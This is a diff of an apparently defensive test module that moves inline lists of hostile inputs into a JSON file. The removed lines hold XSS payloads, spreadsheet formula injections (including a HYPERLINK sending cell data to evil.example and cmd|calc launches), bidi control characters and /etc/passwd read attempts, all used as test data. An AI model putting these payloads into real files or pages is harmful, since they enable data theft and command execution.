@@ -31,71 +31,13 @@ FOLDER = "=x <b onclick='alert(7)'>\"rows\"\u202e{{7*7}}"
 AS_CSV = dict(index=False, quoting=csv.QUOTE_ALL)
 MEGABYTE = 1_000_000
 LONGEST_TEXT = 20_000
-PATIENCE = 240
-"""Seconds after which a build counts as stuck; it takes a tenth of them."""
+PATIENCE = 1800
+"""Seconds after which a build counts as stuck; on a quiet machine it takes one of them in fifty."""
 SIGNS = ("=", "+", "-", "@", "\t", "\r")
-MARKUP = [
-    "<script>alert(1)</script>",
-    "<img src=x onerror=alert(2)>",
-    "<svg/onload=alert(3)>",
-    "</svg><script>alert(4)</script>",
-    "</style></title></textarea><iframe src=javascript:alert(5)>",
-    '" onmouseover="alert(6)',
-    "' autofocus onfocus='alert(8)",
-    "[click](javascript:alert(9))",
-    "![x](javascript:alert(10))",
-    "<javascript:alert(11)>",
-    "[a]: javascript:alert(12)",
-    "<!-- drawing -->",
-    "</figure></article>",
-    "```{raw} html\n<script>alert(13)</script>\n```",
-    "{raw:html}`<script>`",
-    ":::{include} /etc/passwd\n:::",
-    "{{7*7}}",
-    "{% raw %}",
-    "# Parameters\nplatform_rows = 'evil'",
-]
-FORMULAS = [
-    '=HYPERLINK("http://evil.example/?"&A1,"open")',
-    "=cmd|' /C calc'!A0",
-    "+cmd|' /C calc'!A0",
-    "-2+3+cmd|' /C calc'!A0",
-    "@SUM(1+9)*cmd|' /C calc'!A0",
-    "\t=1+1",
-    "\r=1+1",
-    "\uff1d1+1",
-]
-UNSEEN = [
-    "\u202egnp.exe\u202c",
-    "\u2066\u2067isolate\u2069",
-    "\u200f\u061cright",
-    "zero\u200bwidth\ufeffjoiner\u2060",
-    "nul\x00byte",
-    "bell\x07back\x08",
-    "\x1b[31mred\x1b[0m",
-    "\x1b]0;title\x07",
-    "\x9b31m",
-    "line\u2028break\u2029",
-    "\ue000private",
-    "\U000e0041tag",
-    "\ufdd0noncharacter",
-    "e" + "\u0301" * 500,
-]
-PRINT = [
-    "#set page(fill: red)",
-    '#eval("1+1")',
-    '#read("/etc/passwd")',
-    "$ sum_(k=0)^n k $",
-    "*bold* _under_ `code` <label> @ref",
-    r"\write18{id}",
-    r"\input{/etc/passwd}",
-    r"$x^2$ \(y\)",
-    "SETPIECE00001X",
-    "%%EOF",
-    "#title table-5-1",
-    "null",
-    "NaN",
-]
+STRINGS = json.loads(Path(__file__).with_name("hostile.json").read_text(encoding="utf-8"))
+MARKUP, FORMULAS, UNSEEN, PRINT = (
+    STRINGS[kind] for kind in ("markup", "formulas", "unseen", "print")
+)
 LONG = [
     "A" * MEGABYTE,
     "<script>" * (MEGABYTE // 8),
